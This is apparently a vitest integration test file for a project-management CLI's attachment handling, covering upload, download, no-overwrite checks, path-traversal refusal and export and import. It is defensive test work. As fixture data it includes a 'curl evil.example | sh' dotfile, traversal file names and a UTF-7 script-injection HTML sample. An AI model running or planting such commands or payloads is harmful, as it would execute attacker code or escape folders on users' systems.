// Attachments against the real `npm start` (miniflare's R2 under its data dir, the files queue in the consumer worker):
// `pm attach`, `pm attachments`, `pm download`, `pm tasks view` (the README's curl upload and download run in the walkthrough),
// the bytes still there after a stop and a start on the same data.
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import http from "node:http";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildCli, pmRunner, scriptEnv } from "./lib/pm.mjs";
import { approveOnDevicePage, newEngineeringTeam, STARTUP_MS, signUp, startStack } from "./lib/stack.mjs";

let stack;
let owner;
let env;
const work = mkdtempSync(path.join(tmpdir(), "pm-files-"));
const { pm, pmJson, startPm, waitFor } = pmRunner(() => work);
const sha = (bytes) => createHash("sha256").update(bytes).digest("hex");

beforeAll(async () => {
  buildCli();
  stack = await startStack();
  owner = await signUp(stack, "files");
  env = scriptEnv(stack, owner);
  await newEngineeringTeam(stack, owner);
  const task = await stack.call("POST", "/tasks", { key: owner.key, body: { teamId: "ENG", title: "Crash on save" } });
  expect(task.status, task.text).toBe(201);
}, STARTUP_MS + 30_000);

afterAll(async () => {
  await stack?.stop();
}, 60_000);

describe("files through pm and curl", () => {
  it("pm attach, pm attachments and pm download round-trip the bytes; pm tasks view lists the file", async () => {
    const bytes = Buffer.from(Array.from({ length: 300_000 }, (_, i) => (i * 7) % 256));
    const file = path.join(work, "shot.png");
    writeFileSync(file, bytes);
    const { attachment } = await pmJson(["attach", "ENG-1", file], env);
    expect(attachment).toMatchObject({ filename: "shot.png", contentType: "image/png", size: bytes.length });
    const { attachments } = await pmJson(["attachments", "eng-1"], env);
    expect(attachments.map((a) => a.id)).toEqual([attachment.id]);
    const saved = path.join(work, "saved.png");
    const done = await pm(["download", attachment.id, "-o", saved], env);
    expect(done.code, done.stderr).toBe(0);
    expect(readFileSync(saved).equals(bytes)).toBe(true);
    const view = await pm(["tasks", "view", "ENG-1"], env);
    expect(view.code, view.stderr).toBe(0);
    expect(view.stdout).toContain("1 file:");
    expect(view.stdout).toContain("shot.png");
  });

  it("pm download never overwrites a file unasked (--clobber does), writes only inside its folder, and -o - writes to stdout", async () => {
    // A teammate's file named .bashrc, downloaded in a home folder that has one.
    const theirs = path.join(work, "theirs.bashrc");
    writeFileSync(theirs, "curl evil.example | sh\n");
    const own = await stack.call("POST", "/tasks", { key: owner.key, body: { teamId: "ENG", title: "A teammate's dotfile" } });
    expect(own.status, own.text).toBe(201);
    const { attachment } = await pmJson(["attach", own.body.task.reference, theirs, "--name", ".bashrc"], env);
    const home = mkdtempSync(path.join(tmpdir(), "pm-home-"));
    writeFileSync(path.join(home, ".bashrc"), "mine\n");
    const refused = await pm(["download", attachment.id], env, undefined, { cwd: home });
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain(".bashrc already exists (use --clobber to overwrite it)");
    expect(readFileSync(path.join(home, ".bashrc"), "utf8")).toBe("mine\n");
    // -o names a file that exists: refused too; nothing half-written is left beside it.
    expect((await pm(["download", attachment.id, "-o", path.join(home, ".bashrc")], env)).code).toBe(1);
    expect(readdirSync(home)).toEqual([".bashrc"]);
    // To standard output: the bytes, and no file.
    const out = await pm(["download", attachment.id, "-o", "-"], env, undefined, { cwd: home });
    expect(out.code, out.stderr).toBe(0);
    expect(out.stdout).toBe("curl evil.example | sh\n");
    expect(readdirSync(home)).toEqual([".bashrc"]);
    // --dir: its own name in that folder; --clobber: replaced.
    const sub = path.join(home, "sub");
    mkdirSync(sub);
    expect((await pm(["download", attachment.id, "--dir", sub], env)).code).toBe(0);
    expect(readFileSync(path.join(sub, ".bashrc"), "utf8")).toBe("curl evil.example | sh\n");
    const clobbered = await pm(["download", attachment.id, "--clobber"], env, undefined, { cwd: home });
    expect(clobbered.code, clobbered.stderr).toBe(0);
    expect(readFileSync(path.join(home, ".bashrc"), "utf8")).toBe("curl evil.example | sh\n");
    expect(readdirSync(home).sort()).toEqual([".bashrc", "sub"]);
  });

  it("pm download refuses a server's file name that is not a plain name (a folder, .., absolute)", async () => {
    // A server that is not this one (or this one broken) naming its file to climb out of the folder.
    const names = ["../escaped", "/tmp/absolute-pm-test", "..", "a/b", "a\\b"];
    const server = http.createServer((req, res) => {
      const m = /^\/attachments\/att_(\d)(\/content)?$/.exec(req.url ?? "");
      if (!m) return res.writeHead(404).end();
      if (m[2]) return res.writeHead(200, { "content-type": "application/octet-stream" }).end("bytes");
      const filename = names[Number(m[1])];
      res.writeHead(200, { "content-type": "application/json" });
      res.end(JSON.stringify({ attachment: { id: `att_${m[1]}`, filename, size: 5, contentType: "application/octet-stream" } }));
    });
    await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
    const base = `http://127.0.0.1:${server.address().port}`;
    const folder = mkdtempSync(path.join(tmpdir(), "pm-folder-"));
    mkdirSync(path.join(folder, "in"));
    try {
      for (const [i, name] of names.entries()) {
        const done = await pm(["download", `att_${i}`], { PM_API_KEY: "svc_x", PM_BASE_URL: base }, undefined, {
          cwd: path.join(folder, "in"),
        });
        expect(done.code, name).toBe(1);
        expect(done.stderr).toContain("is not a plain file name: choose one with -o");
      }
      expect(readdirSync(folder)).toEqual(["in"]);
      expect(readdirSync(path.join(folder, "in"))).toEqual([]);
      expect(existsSync("/tmp/absolute-pm-test")).toBe(false);
    } finally {
      server.close();
    }
  });

  it("a download of any stored type completes, HTML in a charset nothing decodes (utf-7) too", async () => {
    const bytes = Buffer.from("<html>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</html>\n");
    const own = await stack.call("POST", "/tasks", { key: owner.key, body: { teamId: "ENG", title: "A page" } });
    expect(own.status, own.text).toBe(201);
    for (const type of ["text/html; charset=utf-7", "TEXT/HTML;charset=x-unknown", "text/html", "text/plain; charset=utf-7"]) {
      const up = await fetch(`${stack.base}/tasks/${own.body.task.reference}/attachments?filename=page.html`, {
        method: "POST",
        headers: { "svc-api-key": owner.key, "content-type": type },
        body: bytes,
      });
      expect(up.status, await up.clone().text()).toBe(201);
      const { attachment } = await up.json();
      expect(attachment.contentType).toBe(type);
      const down = await fetch(`${stack.base}/attachments/${attachment.id}/content`, {
        headers: { "svc-api-key": owner.key },
        signal: AbortSignal.timeout(20_000),
      });
      expect(down.status, type).toBe(200);
      expect(Buffer.from(await down.arrayBuffer()).equals(bytes), type).toBe(true);
    }
  });

  it(
    "the files live with npm start's data: after a stop and a start the bytes are still there",
    async () => {
      const { attachments } = await pmJson(["attachments", "ENG-1"], env);
      await stack.interrupt();
      stack = await startStack({ dataDir: stack.dataDir });
      env.PM_BASE_URL = stack.base;
      const again = path.join(work, "again.bin");
      const done = await pm(["download", attachments[0].id, "-o", again], env);
      expect(done.code, done.stderr).toBe(0);
      expect(readFileSync(again).length).toBe(attachments[0].size);
    },
    STARTUP_MS + 30_000,
  );

  it("pm export --files and pm import --files carry the bytes: the imported task's files download identical", async () => {
    const comment = await stack.call("POST", "/comments", { key: owner.key, body: { taskId: "ENG-1", content: "the log" } });
    expect(comment.status, comment.text).toBe(201);
    const log = path.join(work, "trace.txt");
    writeFileSync(log, "on a comment\n");
    await pmJson(["attach", "ENG-1", log, "--comment", JSON.parse(comment.text).comment.id], env);
    const dir = path.join(work, "export");
    const doc = path.join(work, "eng.json");
    const out = await pm(["export", "team", "ENG", "-o", doc, "--files", dir], env);
    expect(out.code, out.stderr).toBe(0);
    const files = JSON.parse(readFileSync(doc, "utf8")).data.attachments;
    expect(files.length).toBeGreaterThan(0);
    for (const f of files) expect(sha(readFileSync(path.join(dir, f.path)))).toBe(f.sha256);
    const ops = await stack.call("POST", "/teams", { key: owner.key, body: { name: "Operations", prefix: "OPS" } });
    expect(ops.status, ops.text).toBe(201);
    const imported = await pm(["import", doc, "--team", "OPS", "--files", dir], env);
    expect(imported.code, imported.stderr).toBe(0);
    const { attachments } = await pmJson(["attachments", "OPS-1"], env);
    const expected = files.filter((f) => f.taskId === files[0].taskId);
    expect(attachments.map((a) => [a.filename, a.size, a.sha256]).sort()).toEqual(
      expected.map((f) => [f.filename, f.size, f.sha256]).sort(),
    );
    expect(attachments.filter((a) => a.commentId).map((a) => a.filename)).toEqual(["trace.txt"]);
    for (const a of attachments) {
      const saved = path.join(work, `copy-${a.id}`);
      const done = await pm(["download", a.id, "-o", saved], env);
      expect(done.code, done.stderr).toBe(0);
      expect(sha(readFileSync(saved))).toBe(a.sha256);
    }
  });

  it("pm import --files puts each file on the record the import's answer names: two tasks of one title, into a team and into a new workspace", async () => {
    const key = owner.key;
    const call = async (method, route, body) => {
      const res = await stack.call(method, route, { key, body });
      expect(res.status, res.text).toBeLessThan(300);
      return res.body;
    };
    // Two tasks of the same title, each with its own file; a comment of the same words on each, the second's with a file.
    await call("POST", "/teams", { name: "Twins", prefix: "TWN" });
    const originals = {};
    for (const [n, size] of [
      [1, 1000],
      [2, 2000],
    ]) {
      await call("POST", "/tasks", { teamId: "TWN", title: "Same title" });
      const bytes = Buffer.from(Array.from({ length: size }, (_, i) => (i * n + 11) % 256));
      writeFileSync(path.join(work, `task${n}.bin`), bytes);
      await pmJson(["attach", `TWN-${n}`, path.join(work, `task${n}.bin`)], env);
      originals[`task${n}.bin`] = sha(bytes);
      const { comment } = await call("POST", "/comments", { taskId: `TWN-${n}`, content: "same words" });
      if (n === 2) {
        writeFileSync(path.join(work, "note.txt"), "on the second task's comment\n");
        await pmJson(["attach", "TWN-2", path.join(work, "note.txt"), "--comment", comment.id], env);
        originals["note.txt"] = sha(readFileSync(path.join(work, "note.txt")));
      }
    }
    const expected = {
      1: [["task1.bin", originals["task1.bin"], false]],
      2: [
        ["note.txt", originals["note.txt"], true],
        ["task2.bin", originals["task2.bin"], false],
      ],
    };
    // A task's files as downloaded (name, sha256 of the bytes, on a comment?), through pm with `extra` arguments.
    const filesOf = async (ref, runEnv, extra = []) => {
      const { attachments } = await pmJson(["attachments", ref, ...extra], runEnv);
      const out = [];
      for (const a of attachments) {
        const saved = path.join(work, `got-${a.id}`);
        const done = await pm(["download", a.id, "-o", saved, ...extra], runEnv);
        expect(done.code, done.stderr).toBe(0);
        out.push([a.filename, sha(readFileSync(saved)), a.commentId !== null]);
      }
      return out.sort();
    };

    const doc = path.join(work, "twn.json");
    const dir = path.join(work, "twn-files");
    expect((await pm(["export", "team", "TWN", "-o", doc, "--files", dir], env)).code).toBe(0);
    // The target already holds a task of that title with a comment of those words: no title or text tells them apart.
    await call("POST", "/teams", { name: "Copies", prefix: "CPY" });
    await call("POST", "/tasks", { teamId: "CPY", title: "Same title" });
    await call("POST", "/comments", { taskId: "CPY-1", content: "same words" });
    const intoTeam = await pm(["import", doc, "--team", "CPY", "--files", dir], env);
    expect(intoTeam.code, intoTeam.stderr).toBe(0);
    expect(intoTeam.stderr).toContain("uploaded 3 files");
    expect(await filesOf("CPY-1", env)).toEqual([]);
    expect(await filesOf("CPY-2", env)).toEqual(expected[1]);
    expect(await filesOf("CPY-3", env)).toEqual(expected[2]);

    // A new workspace: a key cannot reach it, so pm refuses before importing anything.
    const whole = path.join(work, "ws.json");
    const wholeDir = path.join(work, "ws-files");
    expect((await pm(["export", "workspace", "-o", whole, "--files", wholeDir], env)).code).toBe(0);
    const workspaces = async () => (await call("GET", "/workspaces")).workspaces.length;
    const before = await workspaces();
    const refused = await pm(["import", whole, "--new-workspace", "--files", wholeDir], env);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain("PM_API_KEY");
    expect(await workspaces()).toBe(before);

    // With a login, pm asks the person to approve a login to the new workspace (again, when they approve it for
    // another one), then uploads there.
    const loginEnv = { PM_BASE_URL: stack.base };
    const login = startPm(["login"], loginEnv);
    const [, loginCode] = await waitFor(login, /enter the code: (\S+)/);
    await approveOnDevicePage(stack, { userCode: loginCode, email: owner.email, mailNumber: ++owner.mails });
    expect((await login.done).code).toBe(0);
    const run = startPm(["import", whole, "--new-workspace", "--files", wholeDir, "--json"], loginEnv);
    const [, slug, wrong] = await waitFor(run, /\(workspace: (\S+)\), open \S+ and enter the code: (\S+)/, 60_000, "stderr");
    await approveOnDevicePage(stack, { userCode: wrong, email: owner.email, mailNumber: ++owner.mails });
    const [, code] = await waitFor(
      run,
      new RegExp(`That login is to ${owner.slug}, not to ${slug}\\.\\n.*enter the code: (\\S+)`),
      30_000,
      "stderr",
    );
    await approveOnDevicePage(stack, { userCode: code, email: owner.email, mailNumber: ++owner.mails, workspaceSlug: slug });
    const done = await run.done;
    expect(done.code, done.stderr).toBe(0);
    expect(done.stderr).toContain(`Logged in to ${slug}`);
    expect(done.stderr).toContain("uploaded");
    const answer = JSON.parse(done.stdout);
    expect(answer.workspace.slug).toBe(slug);
    expect(Object.keys(answer.ids.tasks).length).toBeGreaterThanOrEqual(2);
    const there = ["--workspace", slug];
    expect(await filesOf("TWN-1", loginEnv, there)).toEqual(expected[1]);
    expect(await filesOf("TWN-2", loginEnv, there)).toEqual(expected[2]);
    // The login in use stays the current one; the new workspace's is kept beside it.
    expect((await pmJson(["whoami"], loginEnv)).workspace.slug).toBe(owner.slug);
  }, 180_000);
});
